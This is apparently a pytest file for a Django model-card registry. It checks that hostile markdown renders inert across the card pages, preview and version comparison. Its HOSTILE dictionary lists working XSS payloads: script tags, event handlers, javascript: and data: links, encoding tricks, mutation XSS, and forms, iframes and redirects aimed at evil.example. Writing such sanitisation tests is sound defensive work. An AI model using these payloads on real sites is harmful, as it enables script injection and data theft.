"""Hostile markdown in a model card renders inert: no script, no event handler, no
javascript: link, no raw HTML that does anything, wherever a card is shown."""

import html
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from registry.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from registry.services.cards import card_save
from tests.conftest import client_for

HOSTILE = {
    "script tag": "<script>alert('card-xss')</script>",
    "script in markdown": "Intro\n\n<script src=https://evil.example/x.js></script>\n\nOutro",
    "img onerror": "<img src=x onerror=\"alert('card-xss')\">",
    "svg onload": "<svg onload=alert('card-xss')><circle r=1 /></svg>",
    "event handler on allowed tag": "<p onclick=\"alert('card-xss')\" onmouseover=x()>hi</p>",
    "markdown javascript link": "[click me](javascript:alert('card-xss'))",
    "raw javascript link": "<a href=\"javascript:alert('card-xss')\">x</a>",
    "mixed case scheme": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "entity encoded scheme": '<a href="&#106;avascript:alert(1)">x</a>',
    "whitespace before scheme": '<a href=" javascript:alert(1)">x</a>',
    "reference link": "[x][r]\n\n[r]: javascript:alert('card-xss')",
    "data url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "iframe": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example"><input name=p><button>Go</button></form>',
    "style tag and attribute": '<style>body{display:none}</style><b style="x:expression(1)">b</b>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base tag": '<base href="https://evil.example/">',
    "mutation xss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "markdown image with js": "![x](javascript:alert('card-xss'))",
    "link inside code is text": "`<script>alert('card-xss')</script>`",
    "autolink": "<javascript:alert('card-xss')>",
    "attribute breakout": '<a href="https://ok.example" title=x onfocus="alert(1)" autofocus>x</a>',
}


class Inspector(HTMLParser):
    """Collects every tag and attribute of a fragment."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_inert(fragment: str) -> None:
    inspector = Inspector()
    inspector.feed(fragment)
    for tag in inspector.tags:
        assert tag in ALLOWED_TAGS, (tag, fragment)
    for tag, name, value in inspector.attributes:
        assert not name.startswith("on"), (tag, name, fragment)
        assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name, fragment)
        if name == "href":
            scheme = html.unescape(value).strip().split(":", 1)
            if len(scheme) == 2 and "/" not in scheme[0]:
                assert scheme[0].lower() in ("http", "https", "mailto"), (value, fragment)
    lowered = html.unescape(fragment).lower()
    assert "<script" not in fragment.lower() and "javascript:" not in _attribute_text(inspector)
    assert "<iframe" not in lowered.replace("&lt;iframe", "")


def _attribute_text(inspector) -> str:
    return " ".join(v.lower() for _, _, v in inspector.attributes)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_render_markdown_makes_hostile_input_inert(name):
    assert_inert(render_markdown(HOSTILE[name]))


def test_safe_markdown_still_renders():
    out = render_markdown(
        "**bold** [docs](https://example.com) <mailto:ml@example.com>\n\n| a | b |\n|---|---|\n"
        "| 1 | 2 |"
    )
    assert "<strong>bold</strong>" in out
    assert 'href="https://example.com"' in out and 'rel="noopener noreferrer nofollow"' in out
    assert "<table>" in out


@pytest.fixture
def hostile_card(scientist, version):
    sections = {}
    keys = ["intended_use", "out_of_scope", "factors", "metrics", "training_data", "contact"]
    payloads = list(HOSTILE.values())
    for index, key in enumerate(keys):
        sections[key] = "\n\n".join(payloads[index :: len(keys)])
    card_save(
        actor=scientist,
        version=version,
        sections=sections,
        metadata={"developers": "<script>alert('card-xss')</script>"},
    )
    return version


class PageInspector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.problems = []
        self.in_body = False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "data", "formaction", "srcdoc"):
                target = html.unescape(value or "").strip().lower()
                if target.startswith(("javascript:", "vbscript:", "data:")):
                    self.problems.append(f"<{tag} {name}={value}>")
        if tag == "script" and not (attrs.get("src") or "").startswith("/static/"):
            self.problems.append("an inline or foreign <script>")
        if tag == "body":
            self.in_body = True
        ours = (tag == "style" and not self.in_body) or (
            tag == "svg" and attrs.get("class") == "chart"  # the comparison's charts
        )
        active = ("iframe", "object", "embed", "base", "meta", "style", "img", "svg")
        if tag in active and not ours and (tag != "meta" or "http-equiv" in attrs):
            self.problems.append(f"<{tag}>")
        if tag == "form" and "evil" in (attrs.get("action") or ""):
            self.problems.append("a foreign form")


def _no_hostile_markup(content: str) -> None:
    """Whatever the text says, no element on the page does anything it should not."""
    inspector = PageInspector()
    inspector.feed(content)
    assert inspector.problems == []


@pytest.mark.parametrize(
    "url_name", ["registry:card-detail", "registry:card-export-html", "registry:card-edit"]
)
def test_card_pages_show_hostile_text_inert(scientist, hostile_card, url_name):
    url = reverse(url_name, args=[hostile_card.registered_model.name, hostile_card.version])
    response = client_for(scientist).get(url)
    assert response.status_code == 200
    _no_hostile_markup(response.content.decode())


def test_the_live_preview_is_sanitised(scientist, version):
    url = reverse("registry:card-preview", args=[version.registered_model.name, version.version])
    for payload in HOSTILE.values():
        response = client_for(scientist).post(
            url, {"_preview": "intended_use", "intended_use": payload}
        )
        assert response.status_code == 200
        fragment = response.content.decode().split('<div class="completeness')[0]
        assert_inert(fragment)


def test_comparison_diffs_show_hostile_text_as_text(scientist, model, hostile_card):
    from tests.factories import make_version

    v2 = make_version(scientist, model)
    card_save(actor=scientist, version=v2, sections={"intended_use": "<script>alert(2)</script>"})
    url = reverse("registry:compare", args=[model.name]) + "?v=1&v=2"
    content = client_for(scientist).get(url).content.decode()
    _no_hostile_markup(content)
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in content  # the diff shows it, escaped
